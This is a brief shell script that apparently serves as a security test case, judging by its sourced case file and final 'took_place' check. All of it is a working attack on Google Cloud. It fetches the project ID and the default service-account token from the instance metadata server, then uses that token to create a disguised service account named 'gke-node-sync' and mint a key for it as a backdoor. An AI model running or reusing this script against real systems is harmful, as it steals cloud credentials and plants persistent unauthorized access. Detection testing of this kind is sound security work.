#!/bin/sh
. /opt/case/case.sh

m=http://169.254.169.254/computeMetadata/v1
p=$(wget -qO- --header 'Metadata-Flavor: Google' $m/project/project-id)
t=$(wget -qO- --header 'Metadata-Flavor: Google' $m/instance/service-accounts/default/token)
a=http://iam.googleapis.com/v1/projects/$p/serviceAccounts
a=$(echo "$a" | tr -d '\n ')
wget -qO- --header "Authorization: Bearer $t" --header 'Content-Type: application/json' --post-data '{"accountId":"gke-node-sync"}' $a >/dev/null
wget -qO- --header "Authorization: Bearer $t" --post-data '{}' $a/gke-node-sync/keys | grep -q ok
took_place
